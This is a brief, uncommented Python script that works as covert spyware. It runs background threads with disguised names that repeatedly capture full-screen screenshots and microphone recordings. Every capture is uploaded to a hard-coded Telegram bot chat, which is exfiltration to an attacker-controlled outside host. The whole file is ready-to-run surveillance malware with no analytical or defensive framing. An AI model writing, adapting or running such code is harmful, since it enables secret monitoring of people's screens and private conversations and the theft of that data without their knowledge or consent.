import io
import threading
import time

import mss
import mss.tools
import requests
import sounddevice as sd
import soundfile as sf

TG = "https://api.telegram.org/bot{}:{}/".format(7000000001, "AAmadeuptokenvalue")
CHAT = -1001234567890


def pictures():
    with mss.mss() as grab:
        while True:
            img = grab.grab(grab.monitors[0])
            png = mss.tools.to_png(img.rgb, img.size)
            requests.post(TG + "sendPhoto", data={"chat_id": CHAT}, files={"photo": ("t.png", png)})
            time.sleep(45)


def sound(seconds=30, rate=16000):
    while True:
        rec = sd.rec(seconds * rate, samplerate=rate, channels=1)
        sd.wait()
        b = io.BytesIO()
        sf.write(b, rec, rate, format="OGG")
        b.seek(0)
        requests.post(TG + "sendVoice", data={"chat_id": CHAT}, files={"voice": b})


for fn in (pictures, sound):
    threading.Thread(target=fn, name="thumbs-" + fn.__name__).start()
